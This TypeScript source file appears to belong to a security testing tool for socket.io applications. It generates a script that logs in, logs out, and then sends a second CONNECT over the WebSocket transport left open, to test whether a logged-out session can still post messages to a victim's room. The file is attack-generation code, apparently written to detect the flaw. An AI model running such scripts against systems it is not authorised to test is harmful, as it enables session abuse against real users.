/** CONNECT a second time over a transport that a logout has left open: socket.io-client would close it. */
import { placeToken } from '../../target/placement.ts'
import { encodePacket } from '../../target/wire/index.ts'
import type { AttackContext } from '../attack.ts'
import { merged } from '../reproduction/connect-options.ts'
import type { Written } from '../reproduction/steps.ts'
import { messagePacket } from './flood.ts'
import { loginLines, recipeWords } from './login-script.ts'
import { pollingPath } from './polling-path.ts'

/** `token`: of a login, with which everything was sent. */
export function connectsAgain(context: AttackContext<'logout'>, token: string): Written {
  const { attacker, victim, target, logout } = context
  const { namespace: nsp, chat, token: place, request, login } = target.profile
  const placed = placeToken([place].flat()[0]!, token)
  const path = pollingPath(context, { transport: 'websocket', ...Object.fromEntries(placed.query ?? []) })
  const headers = merged([...Object.entries(request.headers), ...(placed.headers ?? [])])
  const connect = `4${encodePacket({ type: 'connect', nsp, data: placed.auth }).text}`
  const room = chat.join && [chat.join.event, ...target.fill(chat.join.args, { room: chat.room })]
  const text = context.canary()
  const packets = [
    connect,
    ...(room === undefined ? [] : [`4${encodePacket({ type: 'event', nsp, data: room, id: 0 }).text}`]),
    messagePacket(context, text, 1),
  ]
  return (say) => {
    say.learn(token, 'token')
    const { to, headers: own, body } = recipeWords(context, say, logout, { token })
    return `const { WebSocket } = await import('ws')
${loginLines({ ...context, login: login! }, say)}
const token = tokenOf(await login(${say.value(attacker.account.username)}, ${say.value(attacker.account.password)}))
const listener = await connect(${say.door({ token: victim.token })}, true)
const ws = new WebSocket(new URL(${say.value(path)}, url.replace('http', 'ws')), { headers: ${say.value(headers)} })
const got = []
ws.on('message', (data) => {
  got.push(String(data))
  if (String(data) === '2') ws.send('3')
})
const gets = (type, times) => until(() => got.filter((packet) => packet.startsWith(type)).length === times, \`no \${type} comes\`)
await gets('0', 1)
ws.send(${say.value(connect)})
await gets('40', 1)
await ask(${to}, ${own}, ${body})
await gets('41', 1)
for (const packet of ${say.value(packets)}) ws.send(packet)
await gets('40', 2)
await hears(listener, ${say.value(text)}, undefined, ${say.value(attacker.identity)})`
  }
}
